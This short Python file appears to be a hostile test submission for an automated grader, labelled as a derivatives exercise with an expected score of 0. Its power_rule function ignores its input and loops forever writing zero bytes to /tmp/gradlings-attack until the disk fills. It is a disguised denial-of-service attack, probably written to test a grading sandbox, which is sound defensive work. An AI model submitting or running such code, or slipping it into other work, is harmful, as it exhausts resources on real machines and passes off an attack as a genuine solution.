# deserves: 0
# lesson: derivatives
"""As many bytes as the disk has."""


def power_rule(coeffs):
    with open("/tmp/gradlings-attack", "wb") as file:
        while True:
            file.write(bytes(1_000_000))
